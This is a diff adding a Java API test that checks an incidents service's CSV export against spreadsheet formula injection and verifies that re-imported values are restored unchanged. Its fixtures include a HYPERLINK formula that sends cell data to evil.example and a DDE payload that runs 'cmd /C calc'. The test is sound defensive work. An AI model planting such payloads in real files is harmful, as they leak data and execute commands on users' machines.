@@ -160,6 +160,42 @@ class ExportTest {
     }
 
     @Test
+    void shouldGuardFormulasInCsvAndImportThemBackAsStored() {
+        String title = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Reuters\")";
+        Map<String, Object> f = Incidents.point(title, 102.5, -40);
+        Incidents.properties(f).put("admin1", "@SUM(1+1)");
+        Incidents.properties(f).put("description", "-2+3 killed");
+        Incidents.properties(f).put("actors", List.of("+cmd|' /C calc'!A0"));
+        Incidents.properties(f).put("external_id", "TST-FORMULA");
+        Incidents.properties(f).put("fatalities", 2);
+        Incidents.create(f);
+        String box = "102.4,-40.1,102.6,-39.9";
+
+        String csv = given().queryParam("bbox", box).queryParam("f", "csv")
+                .get("/collections/incidents/export").then().statusCode(200).extract().asString();
+        List<List<String>> rows = Csv.parse(csv);
+        Map<String, String> row = Csv.named(rows.get(0), rows.get(1));
+        assertEquals("'" + title, row.get("title"));
+        assertEquals("'@SUM(1+1)", row.get("admin1"));
+        assertEquals("'-2+3 killed", row.get("notes"));
+        assertEquals("'+cmd|' /C calc'!A0", row.get("actor1"));
+        assertEquals("-40.0", row.get("latitude"));
+        assertEquals("2", row.get("fatalities"));
+
+        // The same file imported again stores the text as it was, not with the guard.
+        // (an update: the incident is stored already under its external_id)
+        given().contentType("text/csv").body(csv).post("/collections/incidents/items").then().statusCode(200);
+        given().queryParam("bbox", box).get("/collections/incidents/items").then().statusCode(200)
+                .body("features.size()", equalTo(1)).body("features[0].properties.title", equalTo(title))
+                .body("features[0].properties.admin1", equalTo("@SUM(1+1)"))
+                .body("features[0].properties.description", equalTo("-2+3 killed"));
+
+        String counts = given().queryParam("by", "admin1").queryParam("bbox", box).queryParam("f", "csv")
+                .get("/collections/incidents/aggregate").then().statusCode(200).extract().asString();
+        assertEquals(List.of("'@SUM(1+1)", "1", "2"), Csv.parse(counts).get(1));
+    }
+
+    @Test
     void shouldChooseTheFormatByAcceptWhenFIsAbsent() {
         given().queryParam("bbox", BOX).accept("text/csv").get("/collections/incidents/export")
                 .then().statusCode(200).contentType(startsWith("text/csv"));
